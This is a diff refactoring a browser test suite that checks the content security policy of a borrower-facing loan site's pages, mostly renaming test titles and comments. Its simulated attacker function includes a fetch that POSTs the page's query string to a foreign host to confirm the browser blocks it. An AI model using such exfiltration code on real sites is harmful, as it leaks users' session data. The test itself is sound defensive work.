@@ -5,13 +5,11 @@ import { pages } from '../../pages/pages.ts';
 import { pathOf } from '../../shared/document/page.ts';
 import { portOf } from '../freePort.ts';
 import { type Borrower, site, useBorrower, withBrowser } from './borrower.ts';
-import { DATA_SCREENS, OTHER_ROUTES } from './screens.ts';
-
-const TEXTS = ['aboutUs', 'privacyPolicy', 'loanAgreement'];
+import { DATA_SCREENS, OTHER_ROUTES, TEXT_ROUTES } from './screens.ts';
 
 const PAGES = [
   ...DATA_SCREENS.map(({ route, ready, query }) => ({ route, ready, query })),
-  ...[...OTHER_ROUTES, ...TEXTS].map((route) => ({ route, ready: '', query: undefined })),
+  ...[...OTHER_ROUTES, ...TEXT_ROUTES].map((route) => ({ route, ready: '', query: undefined })),
 ];
 
 async function openPage({ page, open }: Borrower, { route, ready, query }: (typeof PAGES)[number]) {
@@ -39,7 +37,7 @@ const REFUSED = [
   'font-src',
 ];
 
-/** What an attacker's script would try, and what the browser says to it. */
+/** What an attacker's script would try, and how the browser responds. */
 function attack(page: Page, foreign: string) {
   return page.evaluate(
     async ({ elsewhere, expected }) => {
@@ -80,7 +78,7 @@ function attack(page: Page, foreign: string) {
       await fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: location.search }).catch(
         () => undefined,
       );
-      // The browser reports a refusal a while after it refused, later still on a busy machine.
+      // The browser reports a refusal with a delay, which is longer on a busy machine.
       for (let waited = 0; waited < 5000; waited += 50) {
         if (expected.every((refusal) => refused.includes(refusal))) break;
         await new Promise((resolve) => setTimeout(resolve, 50));
@@ -91,7 +89,7 @@ function attack(page: Page, foreign: string) {
   );
 }
 
-describe('the policy of every page, as the browser enforces it', () => {
+describe('the content security policy of every page, as the browser enforces it', () => {
   const borrower = useBorrower();
   let server: Server | undefined;
   let foreign = '';
@@ -124,29 +122,26 @@ describe('the policy of every page, as the browser enforces it', () => {
       expect(arrived).toEqual([]);
     });
 
-    withBrowser(
-      `${one.route}: asks nobody else, and tells nobody who the borrower is`,
-      async () => {
-        const { page, sessionId } = borrower();
-        const asked: string[] = [];
-        const told: string[] = [];
-        page.on('request', (request) => {
-          asked.push(new URL(request.url()).origin);
-          const { referer } = request.headers();
-          if (referer?.includes(sessionId)) told.push(`referrer of ${request.url()}`);
-        });
-        page.on('console', (message) => {
-          if (message.text().includes(sessionId)) told.push(message.text());
-        });
-        await openPage(borrower(), one);
-        expect(new Set(asked)).toEqual(new Set([site]));
-        expect(told).toEqual([]);
-      },
-    );
+    withBrowser(`${one.route}: contacts no other host, and leaks no identity`, async () => {
+      const { page, sessionId } = borrower();
+      const asked: string[] = [];
+      const told: string[] = [];
+      page.on('request', (request) => {
+        asked.push(new URL(request.url()).origin);
+        const { referer } = request.headers();
+        if (referer?.includes(sessionId)) told.push(`referrer of ${request.url()}`);
+      });
+      page.on('console', (message) => {
+        if (message.text().includes(sessionId)) told.push(message.text());
+      });
+      await openPage(borrower(), one);
+      expect(new Set(asked)).toEqual(new Set([site]));
+      expect(told).toEqual([]);
+    });
   }
 
   for (const route of ADDRESSES) {
-    withBrowser(`/${route}: is refused nothing that it does by itself`, async () => {
+    withBrowser(`/${route}: does nothing that its policy refuses`, async () => {
       const { page, context, open, problems } = borrower();
       await context.addInitScript(() => {
         Object.assign(window, { refusals: [] });
@@ -178,7 +173,7 @@ describe('the policy of every page, as the browser enforces it', () => {
     expect(await page.frameLocator('iframe').getByText('Amount to repay').count()).toBe(0);
   });
 
-  withBrowser('is not shown inside a foreign site where the header is missing either', async () => {
+  withBrowser('is not shown inside a foreign site without the header either', async () => {
     const { page, context, sessionId } = borrower();
     await context.route(/\/repayment\?/, async (route) => {
       const response = await route.fetch();
